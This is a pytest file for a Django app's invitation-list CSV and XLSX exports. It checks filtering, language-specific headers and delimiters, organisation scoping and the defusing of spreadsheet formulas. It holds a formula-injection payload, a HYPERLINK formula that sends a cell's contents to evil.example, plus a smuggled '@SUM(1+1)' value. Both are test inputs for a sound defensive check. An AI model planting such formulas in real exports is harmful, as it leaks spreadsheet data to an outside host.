"""The requests list exported to CSV and XLSX: the filtered rows, in the reader's language, and
nothing a spreadsheet would run as a formula."""

import csv
import io
import zipfile
from datetime import datetime

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from enlace.invitations.delivery import fail
from enlace.invitations.models import Invitation
from enlace.invitations.services import build_invitation

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"Ver")'


def export(browser, fmt, **params):
    return browser.get(reverse("invitations:export", args=[fmt]), params)


def csv_rows(response, delimiter=";"):
    """The rows of an export; `;` for a Spanish-speaking organization, as its Excel expects."""
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")  # Excel reads the accents right
    rows = list(csv.reader(io.StringIO(content[1:]), delimiter=delimiter))
    assert len(rows[0]) > 1, "the whole line read as one column"
    return rows


@pytest.fixture
def hostile(acme, customer):
    invitation = build_invitation(
        organization=acme,
        kind=Invitation.Kind.REGISTRATION,
        email="evil@tornillo.example",
        partner=customer,
        first_name=HOSTILE_NAME,
        last_name="",
    )
    invitation.save()
    fail(invitation, reason="@SUM(1+1)")
    return invitation


@pytest.mark.django_db
def test_csv_has_the_filtered_rows_and_defuses_formulas(alice_client, people, hostile):
    response = export(alice_client, "csv", state="failed")
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    header, *rows = csv_rows(response)
    assert header == [
        "Nombre", "Código de cliente", "Cliente", "Correo electrónico", "Tipo", "Estado",
        "Enviado el (America/Guayaquil)", "Caduca el (America/Guayaquil)", "Error de entrega",
    ]  # fmt: skip
    [row] = rows
    assert row[0] == "'" + HOSTILE_NAME
    assert row[3] == "evil@tornillo.example" and row[5] == "Fallida" and row[8] == "'@SUM(1+1)"
    assert row[1] == "C001" and row[2] == "Ferretería El Tornillo"


@pytest.mark.django_db
def test_csv_search_and_every_state(alice_client, people, hostile):
    _, *rows = csv_rows(export(alice_client, "csv"))
    assert len(rows) == 4
    _, *rows = csv_rows(export(alice_client, "csv", q="andina"))
    assert [r[3] for r in rows] == ["lucia@andina.example"]
    assert datetime.fromisoformat(rows[0][7])  # expires at, as a plain local date and time


@pytest.mark.django_db
def test_xlsx_writes_formula_like_text_as_text(alice_client, people, hostile):
    response = export(alice_client, "xlsx", kind="registration")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    content = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the file
    sheet = load_workbook(io.BytesIO(content)).active
    values = list(sheet.values)
    assert values[0][0] == "Nombre" and len(values) == 5
    [hostile_row] = [row for row in sheet.iter_rows(min_row=2) if row[3].value == "evil@tornillo.example"]
    assert hostile_row[0].value == HOSTILE_NAME and hostile_row[0].data_type == "s"
    assert hostile_row[8].value == "@SUM(1+1)" and hostile_row[8].data_type == "s"
    assert isinstance(hostile_row[7].value, datetime)


@pytest.mark.django_db
def test_export_speaks_english_and_keeps_to_the_organization(charlie, globex, people):
    build_invitation(
        organization=globex, kind=Invitation.Kind.REGISTRATION, email="peter@initech.example"
    ).save()
    browser = Client()
    browser.force_login(charlie)
    browser.cookies["django_language"] = "en"
    header, *rows = csv_rows(export(browser, "csv"), delimiter=",")  # Globex speaks English
    assert header[0] == "Name" and header[5] == "State"
    assert [r[3] for r in rows] == ["peter@initech.example"]
    assert rows[0][5] == "Created"
    sheet = load_workbook(io.BytesIO(b"".join(export(browser, "xlsx").streaming_content))).active
    assert [row[3] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["peter@initech.example"]


@pytest.mark.django_db
def test_a_member_may_export_and_unknown_formats_are_404(acme, bob, people):
    browser = Client()
    browser.force_login(bob)
    _, *rows = csv_rows(export(browser, "csv"))
    assert len(rows) == 3
    assert export(browser, "pdf").status_code == 404


@pytest.mark.django_db
def test_an_english_speaking_organizations_export_uses_commas(alice_client, acme, hostile):
    acme.language = "en"
    acme.save()
    header, *rows = csv_rows(export(alice_client, "csv"), delimiter=",")
    assert len(rows) == 1 and "evil@tornillo.example" in rows[0]
